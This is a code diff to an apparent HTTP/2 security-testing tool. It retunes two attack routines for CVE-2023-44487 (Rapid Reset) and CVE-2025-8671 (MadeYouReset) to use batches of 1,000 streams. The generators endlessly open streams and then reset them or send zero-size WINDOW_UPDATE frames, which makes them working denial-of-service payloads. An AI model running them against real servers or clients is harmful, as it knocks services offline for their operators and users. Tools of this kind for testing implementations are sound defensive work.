@@ -10,9 +10,12 @@ from .messages import GET, POST, RESPONSE
 from .wire import literal
 
 RESET, MADE_RESET = "CVE-2023-44487", "CVE-2025-8671"
+#: Streams that are open while something is done to each of them again and again.
 MANY = 5000
-#: The application lets so many streams be open at once.
 MANY_STREAMS = {wire.MAX_CONCURRENT_STREAMS: 2 * MANY}
+#: Streams that are given up; where an application allows more at once, more may be given up.
+SOME = 1000
+SOME_STREAMS = {wire.MAX_CONCURRENT_STREAMS: SOME + 100}
 BOTH: tuple[Role, ...] = ("server", "client")
 
 
@@ -80,13 +83,13 @@ def responses_reset() -> Frames:
 
 @attack(
     "reset-all",
-    f"{MANY:,} requests, then as many resets, again and again",
+    f"{SOME:,} requests, then as many resets, again and again",
     cve=RESET,
-    own_settings=MANY_STREAMS,
+    own_settings=SOME_STREAMS,
 )
 def reset_all() -> Frames:
     ids = wire.odd_numbers()
-    while batch := list(islice(ids, MANY)):
+    while batch := list(islice(ids, SOME)):
         yield b"".join(wire.headers(stream_id, POST) for stream_id in batch)
         yield b"".join(map(wire.rst_stream, batch))
 
@@ -137,13 +140,13 @@ def increment_zero() -> Frames:
 
 @attack(
     "made-reset-increment-zero-all",
-    f"{MANY:,} requests, then WINDOW_UPDATE of 0 on all, again and again",
+    f"{SOME:,} requests, then WINDOW_UPDATE of 0 on all, again and again",
     cve=MADE_RESET,
-    own_settings=MANY_STREAMS,
+    own_settings=SOME_STREAMS,
 )
 def increment_zero_all() -> Frames:
     ids = wire.odd_numbers()
-    while batch := list(islice(ids, MANY)):
+    while batch := list(islice(ids, SOME)):
         yield b"".join(wire.headers(stream_id, POST) for stream_id in batch)
         yield b"".join(wire.window_update(stream_id, 0) for stream_id in batch)
 
